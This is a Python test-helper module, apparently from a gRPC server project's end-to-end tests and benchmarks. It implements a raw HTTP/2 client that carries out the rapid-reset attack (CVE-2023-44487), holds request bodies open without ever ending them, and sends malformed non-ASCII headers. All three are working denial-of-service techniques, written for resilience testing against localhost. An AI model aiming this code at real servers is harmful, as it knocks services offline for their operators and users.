"""A raw HTTP/2 client (the `h2` library over a blocking socket) that misbehaves on purpose:
rapid reset (HEADERS then RST_STREAM, CVE-2023-44487) and request bodies that never end.
Used by tests/e2e/test_h2_abuse.py and bench/h2_abuse.py, against 127.0.0.1 only.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.events
import h2.exceptions

if TYPE_CHECKING:
    from collections.abc import Generator, Sequence

GRPC_PATH = "/compass.v1.CommsService/ListChannels"


def grpc_headers(port: int, token: str, path: str = GRPC_PATH) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", f"Bearer {token}"),
    ]


@dataclass
class Outcome:
    """What the server did to one connection."""

    streams: int = 0
    """Streams opened (HEADERS sent)."""
    goaway: int | None = None
    """The GOAWAY error code, when the server sent one."""
    closed: bool = False
    """The server closed the connection (EOF or reset)."""
    resets_received: list[int] = field(default_factory=list[int])
    """Error codes of the RST_STREAMs the server sent."""
    responses: int = 0
    bytes_sent: int = 0


class Conn:
    """One HTTP/2 connection with prior knowledge."""

    def __init__(self, port: int, *, host: str = "127.0.0.1", timeout: float = 10.0) -> None:
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.outcome = Outcome()
        self.flush()

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data and not self.outcome.closed:
            try:
                self.sock.sendall(data)
                self.outcome.bytes_sent += len(data)
            except OSError:
                self.outcome.closed = True

    def pump(self, wait: float = 0.0) -> None:
        """Read what the server sent within `wait` seconds (0: what is there now)."""
        self.sock.settimeout(wait if wait > 0 else 0.0)
        try:
            while not self.outcome.closed:
                try:
                    data = self.sock.recv(65536)
                except (BlockingIOError, TimeoutError):
                    return
                except OSError:
                    self.outcome.closed = True
                    return
                if not data:
                    self.outcome.closed = True
                    return
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.outcome.closed = True
                    return
                for event in events:
                    self._record(event)
                self.flush()
                self.sock.settimeout(0.0)
        finally:
            self.sock.settimeout(None)

    def _record(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.ConnectionTerminated):
            self.outcome.goaway = int(event.error_code or 0)
        elif isinstance(event, h2.events.StreamReset):
            self.outcome.resets_received.append(int(event.error_code or 0))
        elif isinstance(event, h2.events.ResponseReceived):
            self.outcome.responses += 1

    def open(self, headers: Sequence[tuple[str, str]]) -> int | None:
        """Send HEADERS on a new stream (no END_STREAM); None once the connection is gone."""
        if self.outcome.closed or self.outcome.goaway is not None:
            return None
        stream_id = self.h2.get_next_available_stream_id()
        try:
            self.h2.send_headers(stream_id, list(headers))
        except h2.exceptions.ProtocolError:  # the connection is closed (GOAWAY)
            return None
        self.outcome.streams += 1
        return stream_id

    def reset(self, stream_id: int) -> None:
        with contextlib.suppress(h2.exceptions.ProtocolError, KeyError):
            self.h2.reset_stream(stream_id)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def rapid_reset(
    port: int, token: str, *, streams: int, batch: int = 100, connections: int = 1
) -> list[Outcome]:
    """Open and at once reset `streams` streams, over up to `connections` connections in
    turn (a new one when the server ends the previous); the server's frames are read between
    batches. Returns one Outcome per connection used."""
    outcomes: list[Outcome] = []
    headers = grpc_headers(port, token)
    left = streams
    while left > 0 and len(outcomes) < connections:
        try:
            conn = Conn(port)
        except OSError:
            outcomes.append(Outcome(closed=True))
            continue
        outcomes.append(conn.outcome)
        try:
            while left > 0:
                for _ in range(min(batch, left)):
                    stream_id = conn.open(headers)
                    if stream_id is None:
                        break
                    conn.reset(stream_id)
                    left -= 1
                conn.flush()
                conn.pump()
                if conn.outcome.closed or conn.outcome.goaway is not None:
                    break
            conn.pump(0.5)
        finally:
            conn.close()
    return outcomes


def grpc_frame(length: int) -> bytes:
    """The 5-byte gRPC message prefix announcing `length` bytes."""
    return struct.pack(">BI", 0, length)


@contextlib.contextmanager
def unfinished_bodies(
    port: int, token: str, *, connections: int, streams: int, body_bytes: int, within: float = 20.0
) -> Generator[list[Conn]]:
    """`connections` connections, each with `streams` streams that send `body_bytes` of a
    request body (as far as flow control lets them within `within` seconds) and never end it.
    The connections stay open inside the block."""
    conns: list[Conn] = []
    try:
        for _ in range(connections):
            conn = Conn(port)
            conns.append(conn)
            conn.pump(0.2)  # the server's SETTINGS (its stream limit)
            ids = [i for _ in range(streams) if (i := conn.open(grpc_headers(port, token)))]
            left = dict.fromkeys(ids, body_bytes)
            first = dict.fromkeys(ids, True)
            deadline = time.monotonic() + within
            while left and time.monotonic() < deadline and not conn.outcome.closed:
                progressed = False
                for stream_id in list(left):
                    try:
                        window = conn.h2.local_flow_control_window(stream_id)
                    except (h2.exceptions.ProtocolError, KeyError):
                        del left[stream_id]
                        continue
                    size = min(window, left[stream_id], conn.h2.max_outbound_frame_size)
                    if size <= 0:
                        continue
                    chunk = b"x" * size
                    if first[stream_id]:
                        chunk = grpc_frame(body_bytes) + chunk[5:]
                        first[stream_id] = False
                    try:
                        conn.h2.send_data(stream_id, chunk)
                    except (h2.exceptions.ProtocolError, KeyError):
                        del left[stream_id]
                        continue
                    left[stream_id] -= size
                    if left[stream_id] <= 0:
                        del left[stream_id]
                    progressed = True
                conn.flush()
                conn.pump(0.0 if progressed else 0.05)
        yield conns
    finally:
        for conn in conns:
            conn.close()


def hostile_headers(port: int, token: str, *, pad: int = 0) -> bytes:
    """A connection's first bytes: the preface, SETTINGS and one HEADERS whose :method is not
    ASCII (hypercorn 0.18 raised on it, logging these bytes), with a `pad`-byte header."""
    client = h2.connection.H2Connection(
        h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
    )
    client.initiate_connection()
    headers = [(b":method", b"P\xffST")] + [
        (name.encode(), value.encode())
        for name, value in grpc_headers(port, token)
        if name != ":method"
    ]
    if pad:
        headers.append((b"x-pad", b"p" * pad))
    client.send_headers(1, headers, end_stream=True)
    return client.data_to_send()


def hostile(port: int, token: str, *, connections: int, pad: int = 0) -> int:
    """`connections` connections, each sending hostile_headers and reading until closed;
    returns the bytes sent."""
    sent = 0
    for _ in range(connections):
        data = hostile_headers(port, token, pad=pad)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(data)
            sent += len(data)
            with contextlib.suppress(OSError):
                while sock.recv(65536):
                    pass
    return sent
